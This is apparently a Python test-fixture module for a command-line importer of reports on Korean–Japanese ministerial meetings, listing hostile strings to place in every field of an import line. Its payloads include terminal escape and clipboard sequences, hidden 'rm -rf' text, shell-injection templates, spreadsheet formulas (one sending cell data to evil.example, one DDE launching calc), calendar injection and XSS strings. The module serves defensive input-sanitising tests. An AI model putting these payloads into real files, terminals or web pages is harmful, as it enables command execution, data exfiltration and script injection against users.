"""Hostile and unusual texts, and import lines that have them in every field."""

import re
import unicodedata
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any, Final

from tests.cli.letters import FAMILY


@dataclass(frozen=True, kw_only=True, slots=True)
class Payload:
    """A text. One of `letters` only is shown unchanged. One that is not `accepted` is refused in every field."""

    name: str
    text: str
    letters: bool = False
    accepted: bool = True


def _all(letters: bool = False, accepted: bool = True, **texts: str) -> list[Payload]:
    return [Payload(name=name, text=text, letters=letters, accepted=accepted) for name, text in texts.items()]


WORDS: Final = Payload(name="words", text="plain words", letters=True)
PAYLOADS: Final = (
    WORDS,
    *_all(
        csi="\x1b[31m\x1b[2J\x1b[1;5H\x1b[?1049h",
        osc="\x1b]0;pwned\x07",
        osc_of_a_link="\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
        osc_of_the_clipboard="\x1b]52;c;cm0gLXJm\x07",
        dcs='\x1bP$q"p\x1b\\\x1bX\x1b^\x1b_',
        c0="".join(map(chr, [*range(1, 9), *range(14, 27), *range(28, 32)])),
        c1="".join(map(chr, range(0x80, 0xA0))),
        csi_of_c1="\x9b31m\x9d0;pwned\x9c",
        escape_alone="\x1b",
        delete="\x7f\x7f",
        backspace="\b\b\b\b\b",
        carriage_return="\rFORGED  confirmed",
        line_feed="\nFORGED  confirmed",
        two_lines="\n\n\nFORGED  confirmed\n",
        cr_lf="\r\nFORGED  confirmed",
        tabs="\tFORGED\t\t",
        other_ends_of_a_line="\x0bFORGED\x0cFORGED\x1cFORGED\x1dFORGED\x1eFORGED\x85FORGED\u2028FORGED\u2029FORGED",
        bidi_override="\u202egpj.exe\u202d",
        bidi_embedding="\u202a\u202b\u202c",
        bidi_isolates="\u2066\u2067\u2068\u2069",
        bidi_marks="\u200e\u200f\u061c",
        tag_characters="".join(chr(0xE0000 + ord(letter)) for letter in "rm -rf") + "\U000e007f",
        nothing_to_see="\u200b\u2060\ufeff\xad\u180e\u115f\u3164\ufff9\ufffb",
        not_characters="\ufffe\uffff\U0010ffff\ufdd0",
    ),
    *_all(
        letters=True,
        hangul_nfc=unicodedata.normalize("NFC", "안규백 국방부 장관"),
        hangul_nfd=unicodedata.normalize("NFD", "안규백 국방부 장관"),
        accents_nfd=unicodedata.normalize("NFD", "Žáček Nguyễn"),
        astral="𠮷野家 𝒳 😀",
        joined=f"{FAMILY} ❤️ 🇰🇷 辻\U000e0100",
        from_right_to_left="שלום عباس עראקצ'י",
        joiners="می\u200cخواهم क्\u200dष",
        marks_upon_marks="Z" + "\u0335\u0321\u0353" * 20,
        a_long_word="김" * 600,
        private_use="\ue000\uf8ff",
        backslashes="\\x1b[31m \\u202e \\n \\\\ C:\\new",
        templates="${x} {{y}} {0} %s %n $(id) `id` ; rm -rf / #",
    ),
    *_all(
        formula='=HYPERLINK("http://evil.example?"&A1,"x")',
        formula_plus="+1+1",
        formula_minus="-1-1",
        formula_at="@SUM(A1:A9)",
        formula_dde="=cmd|' /C calc'!A0",
        formula_after_a_tab="\t=1+1",
        formula_after_a_line="\r\n=1+1",
        formula_wide="＝1+1",
        formula_wide_plus="＋1",
        formula_wide_minus="－1",
        formula_wide_at="＠1",
        quotes_and_commas='"",",\n,;"x"',
        calendar_lines="\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nATTENDEE:mailto:x@evil.example\r\n",
        calendar_signs=",;:\\n\\,\\;\"^n^'",
        script="</script><script>alert(1)</script>",
        image="</style></title></svg></textarea><img src=x onerror=alert(1)>",
        attribute='" onmouseover="alert(1)" style="x:y" x=\'',
        attribute_apostrophe="' onfocus='alert(1)' autofocus x=\"",
        entities="&lt;script&gt; &amp;amp; &#x3c;b&#x3e; &nbsp",
        comment="<!-- --!> ]]> <![CDATA[ <?php ?>",
        address_of_a_script="javascript:alert(1)//",
        address_in_capitals="JaVa\tScRiPt:alert(1)//",
        address_of_data="data:text/html,<script>alert(1)</script>",
        json='"}],"stage":"held","x":[{"',
    ),
    *_all(accepted=False, nul="a\0b", surrogate="\ud800", surrogate_low="\udc80", surrogates="\udbff\udbff\udfff"),
)
ACCEPTED: Final = tuple(payload for payload in PAYLOADS if payload.accepted)
REFUSED: Final = tuple(payload for payload in PAYLOADS if not payload.accepted)

# The fields of an import line that may have any text.
FIELDS: Final = (
    *("outlet", "url", "headline", "language", "via", "attributed_to", "words", "place", "name", "role", "without"),
    *("title", "reason", "by", "quote"),
)
# The path of each field that has a fixed set of values, with a valid value, to which a payload is appended.
CLOSED: Final[Mapping[tuple[str, ...], str]] = {
    ("meeting",): "ahn-japan",
    ("stage",): "noted",
    ("published",): "2026-01-20",
    ("attribution", "class"): "official",
    ("attribution", "side", "0"): "KR",
    ("claims", "host"): "JP",
    ("claims", "kind"): "visit",
    ("claims", "window", "edtf"): "2026-02",
    ("claims", "original_window", "edtf"): "2026-01",
    ("claims", "place", "standing"): "candidate",
    ("claims", "participants", "0", "country"): "KR",
}
_MARK: Final = re.compile(r"zz(\d\d)([a-z_]+?)zz")


def marked(number: int, field: str) -> str:
    """Return the text of a field: its payload, a mark that identifies it, the payload again, and a mark of its end."""
    payload = PAYLOADS[number].text
    return f"{payload}zz{number:02}{field}zz{payload}yy."


def marks(text: str) -> set[tuple[int, str]]:
    """Return the numbers and fields whose marks are in a text."""
    return {(int(number), field) for number, field in _MARK.findall(text)}


def numbered(*, accepted: bool = True) -> list[tuple[int, Payload]]:
    """Return the payloads that are accepted, or those that are refused, with their numbers."""
    return [(number, payload) for number, payload in enumerate(PAYLOADS) if payload.accepted is accepted]


def meeting_of(number: int) -> str:
    """Return the name of the meeting whose reports contain a payload."""
    return f"m{number:02}"


def hostile_line(number: int, *, only: str | None = None) -> dict[str, Any]:
    """Return an import line with a payload in every field that may have any text, or in one of them."""
    text = {field: marked(number, field) if only in {None, field} else field for field in FIELDS}
    return {
        "meeting": meeting_of(number),
        "new": True,
        "stage": "postponed",
        "published": "2026-01-20",
        "source": {
            "outlet": text["outlet"],
            "url": text["url"],
            "headline": text["headline"],
            "language": text["language"],
            "via": [text["via"]],
        },
        "attribution": {"class": "official", "words": text["attributed_to"], "side": ["KR"]},
        "claims": {
            "window": {"edtf": "2026-02-02", "words": text["words"]},
            "original_window": {"edtf": "2026-01", "words": text["words"]},
            "place": {"name": text["place"], "standing": "candidate"},
            "host": "JP",
            "participants": [{"name": text["name"], "role": text["role"], "country": "KR"}],
            "without": [text["without"]],
            "kind": "visit",
            "title": text["title"],
            "reason": text["reason"],
            "by": text["by"],
        },
        "quote": text["quote"],
    }
